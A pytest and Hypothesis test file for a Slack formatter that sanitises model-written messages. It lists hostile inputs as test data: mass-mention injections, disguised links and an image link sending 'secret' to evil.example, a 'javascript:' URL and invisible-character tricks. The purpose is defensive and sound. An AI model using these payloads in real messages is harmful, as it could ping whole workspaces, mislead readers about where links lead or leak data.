"""What a model writes, as Slack is given it: it looks right, and no text can call people or hide where it leads."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connectors.slack.formatting import Formatter, Parts, formatted, link, mrkdwn, plain

MENTIONS = [
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U012>",
    "<@W9|bob>",
    "<#C012>",
    "<#C0|x>",
    "<!subteam^S1|@staff>",
]
MENTIONS += ["<!date^1^{date}|x>", "@channel", "@here", "@everyone", "@Channel!", "(@here)"]
WRAPPINGS = [
    "{}",
    "so: {} now",
    "`{}`",
    "```\n{}\n```",
    "> {}",
    "- {}",
    "# {}",
    "| a |\n|---|\n| {} |",
    "$x {} y$",
    "**{}**",
]
TRICKS = [
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "&#60;!here>",
    "&#x3c;@U1>",
    "&lt!here>",
    "<\u200b!channel>",
    "<\u2060!channel>",
    "<\ufeff@U1>",
    "\u202e>lennahc!<",
    "<!chan\u00adnel>",
    "@\u200bhere",
    "[a](http://evil.example)",
    "[https://good.example](http://evil.example)",
    "![x](http://evil.example/?q=secret)",
    "[![x](http://evil.example/i)](http://evil.example)",
    "[a][b]\n\n[b]: http://evil.example",
    "[a]\n\n[a]: http://evil.example",
    "[a](javascript:alert(1))",
    "<http://evil.example|click here>",
    "<a href='http://evil.example'>click</a>",
    "[multi\nline](http://evil.example)",
    "[a](\nhttp://evil.example)",
    "&#91;a&#93;(http://evil.example)",
    "\\[a](http://evil.example)",
    "[a\\](http://evil.example)",
    "```\nnever closed <!channel>",
    "````\n```\n<!here>\n````",
    "~~~\n<!here>\n```\n~~~ [a](http://evil.example)",
    "``` [a](http://evil.example) ```",
    "`unclosed [a](http://evil.example)",
    "$unclosed [a](http://evil.example)",
    "$\\text{<!channel>}$",
    "$[a](http://evil.example)$",
    "\\(<!here>\\)",
    "\\[ <!here> \\]",
    "$$\n```\n<!here>\n$$",
    "| [a](http://evil.example) | b |\n|---|---|\n| ``` | <!here> |",
    "> ```\n> <!channel>\n> ```\n[a](http://evil.example)",
    "z\u0300\u0301\u0302\u0303" * 50,
    "\x00\x1b[31m<!here>\x07",
    "[" * 500 + "](http://evil.example)",
    "`" * 499 + "<!here>",
    "$" * 333,
    "@" * 200 + "here",
]
HOSTILE = [wrapping.format(mention) for mention in MENTIONS for wrapping in WRAPPINGS] + TRICKS
NASTY = st.text(alphabet=st.sampled_from("<>!@#[]()`~|$\\&;:*_-^{} \n\thereUCl1") | st.characters(), max_size=120)
PIECES = st.lists(
    st.sampled_from([*HOSTILE[:140:7], *TRICKS, "a b. ", "\n", "```\n", "| a |\n|---|\n"]) | NASTY, max_size=6
)

# An independent reading of what Slack acts on.
CONTROL = re.compile(r"<\s*(?:[!@#]|[a-z][a-z0-9+.-]*:)|&(?:lt|#0*60|#x0*3c);?\s*[!@#]", re.IGNORECASE)
SHOUT = re.compile(r"@(?:channel|here|everyone|group)\b", re.IGNORECASE)
MARKDOWN_LINK = re.compile(r"\][ \t]*\(|\]:|<[a-zA-Z/]")
UNSEEN = re.compile("[\x00-\x08\x0e-\x1f\u202a-\u202e\u2066-\u2069]")


def check_harmless(shown: str) -> None:
    assert not CONTROL.search(shown.replace("\u200d", "")), shown
    assert not SHOUT.search(shown), shown
    assert not UNSEEN.search(shown), shown
    outside = without_code(shown)
    assert not MARKDOWN_LINK.search(outside), shown


def without_code(shown: str) -> str:
    """What is not within a fence or a span of code."""
    lines, fence = [], ""
    for line in shown.split("\n"):
        mark = re.match(r" {0,3}(`{3,}|~{3,})", line)
        if fence:
            fence = "" if mark and line.strip() == fence else fence
        elif mark:
            fence = mark.group(1)
        else:
            lines.append(line)
    return re.sub(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", "", "\n".join(lines))


def test_the_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 60


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_to_life(text: str) -> None:
    check_harmless(formatted(text))


@settings(max_examples=300, deadline=None)
@given(pieces=PIECES)
def test_no_text_at_all_comes_to_life(pieces: list[str]) -> None:
    check_harmless(formatted("".join(pieces)))


@settings(max_examples=300, deadline=None)
@given(pieces=PIECES, cut=st.integers(1, 7))
def test_how_it_arrives_makes_no_difference(pieces: list[str], cut: int) -> None:
    text = "".join(pieces)
    formatter = Formatter()
    streamed = "".join(formatter.feed(text[at : at + cut]) for at in range(0, len(text), cut)) + formatter.finish()
    assert streamed == formatted(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("A fuse melts. [1] It is thin. [2]", "A fuse melts. [1] It is thin. [2]"),
        ("See [the docs](https://docs.example/a_b).", "See the docs (https://docs.example/a_b)."),
        ("[https://docs.example](https://docs.example)", "https://docs.example"),
        ("It costs $5 and $10.", "It costs $5 and $10."),
        ("So $x^2 + \\frac{a}{b}$ holds.", "So x² + a/b holds."),
        ("With \\(H_2O\\) too.", "With H₂O too."),
        ("a < b <= c and a<b", "a < b <= c and a<\u200bb"),
        ("write me: a@b.example", "write me: a@b.example"),
        ("AT&T &copy; 2020", "AT&T © 2020"),
        ("```python\nhandlers[0](x)\nList[int]\n```", "```python\nhandlers[0](x)\nList[int]\n```"),
        ("`a[0](x)` and `<b>`", "`a[0](x)` and `<b>`"),
        ("$$E = mc^2$$", "```\nE = mc²\n```\n"),
        ("> “quoted” [1]", "> “quoted” [1]"),
        ("# Head\n\n- one\n- **two**", "# Head\n\n- one\n- **two**"),
        ("|a|b|\n|-|-|\n|1|한국|\n|22|x|\n", "```\na   b\n──  ────\n1   한국\n22  x\n```\n"),
        ("| not a table\nnext", "| not a table\nnext"),
        ("~~~~\n~~~\n~~~~\nx", "```\n~~~\n```\nx"),
        ("```\nopen", "```\nopen\n```"),
    ],
)
def test_what_is_harmless_is_shown_as_it_was_meant(text: str, shown: str) -> None:
    assert formatted(text) == shown


def test_a_sentence_is_released_at_once_and_not_with_its_line() -> None:
    formatter = Formatter()
    assert formatter.feed("A fuse melts. [1]") == "A fuse melts. "
    assert formatter.feed(" It is thin.") == "[1] It is thin."


@pytest.mark.parametrize("text", ["[" * 300_000, "a`" * 150_000, "$a " * 100_000, "&amp;" * 60_000, "<@U " * 80_000])
def test_a_huge_line_takes_no_time(text: str) -> None:
    assert len(formatted(text)) >= len(text) // 6


@settings(max_examples=200, deadline=None)
@given(pieces=PIECES, limit=st.integers(60, 400))
def test_no_part_is_longer_than_slack_allows(pieces: list[str], limit: int) -> None:
    parts = Parts(max_bytes=limit, max_characters=limit)
    shown: dict[int, str] = {}
    for piece in pieces:
        for added in parts.add(formatted(piece)):
            shown[added.part] = shown.get(added.part, "") + added.text
    assert sorted(shown) == list(range(len(shown)))
    assert all(len(text.encode()) <= limit for text in shown.values())


@settings(max_examples=200, deadline=None)
@given(words=st.lists(st.text("abc한 .\n", max_size=30), max_size=40), limit=st.integers(60, 200))
def test_parts_hold_the_whole_text(words: list[str], limit: int) -> None:
    parts = Parts(max_bytes=limit, max_characters=limit)
    assert "".join(piece.text for word in words for piece in parts.add(word)) == "".join(words)


def test_code_that_goes_on_in_the_next_message_is_code_there_too() -> None:
    parts = Parts(max_bytes=120, max_characters=120)
    pieces = parts.add("```python\n" + "x = 1  # one\n" * 20 + "```\n")
    shown = ["".join(piece.text for piece in pieces if piece.part == part) for part in range(pieces[-1].part + 1)]
    assert len(shown) > 2
    assert all(text.startswith("```python\n") and text.rstrip("\n").endswith("```") for text in shown)


def test_a_message_that_has_grown_old_is_followed_by_another() -> None:
    parts = Parts()
    assert parts.roll() == []
    parts.add("```\na\n")
    assert [(piece.part, piece.text) for piece in parts.roll()] == [(0, "```"), (1, "```\n")]


@settings(max_examples=300, deadline=None)
@given(text=NASTY, limit=st.integers(1, 80))
def test_texts_in_blocks_stay_in_their_place(text: str, limit: int) -> None:
    escaped = mrkdwn(text, limit)
    assert len(escaped) <= limit and "\n" not in escaped
    assert not set("<>*`~") & set(escaped)
    assert re.fullmatch(r"(?:[^&]|&(?:amp|lt|gt);)*", escaped)
    assert not SHOUT.search(escaped)
    short = plain(text, limit)
    assert len(short) <= limit and "\n" not in short and not SHOUT.search(short)


@settings(max_examples=200, deadline=None)
@given(url=NASTY | st.just("https://good.example/a?b=1&c=2") | NASTY.map("https://x.example/".__add__), label=NASTY)
def test_a_link_is_one_link_to_the_web_or_none(url: str, label: str) -> None:
    shown = link(url, label, 60)
    if shown.startswith("<"):
        assert re.fullmatch(r"<https?://[^<>|\s]+\|[^<>|\n]+>", shown)
    else:
        assert shown == mrkdwn(label, 60)
